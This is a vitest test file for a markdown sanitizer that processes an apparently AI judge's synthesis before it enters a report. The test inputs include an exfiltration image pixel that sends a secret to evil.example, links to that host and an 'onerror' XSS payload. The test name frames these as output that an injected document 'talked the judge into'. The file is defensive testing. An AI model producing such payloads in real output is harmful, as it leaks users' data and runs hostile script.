import { describe, expect, test } from "vitest";
import { subdocument } from "#workflow-kit/markdown";
import { renderMarkdown } from "../../../support/markdown";

describe("a judge's synthesis in the report", () => {
  test("keeps its structure under our headings, and what it quotes", () => {
    const text = "# Holding\n\n- It **binds** […], art. 5 [sic].\n";
    expect(subdocument(text)).toBe("### Holding\n\n- It **binds** […], art. 5 [sic].");
  });

  test.each([
    "![see](//evil.example/pixel?q=secret)",
    "[the statute](//evil.example/)",
    String.raw`\\[the statute](//evil.example/)`,
    "[the statute][1] ![pixel][1] [1]\n\n[1]: //evil.example",
    "<img src=x onerror=alert(1)>",
    "a <https://evil.example> b",
  ])("loads and links nothing that a document talked the judge into: %s", (text) => {
    expect(renderMarkdown(text)).toMatch(/<(?:a|img) /);
    expect(renderMarkdown(subdocument(text)).replaceAll(/<a href="https:[^>]*>https:/gu, "")).not.toMatch(
      /<(?:a|img) /,
    );
  });
});
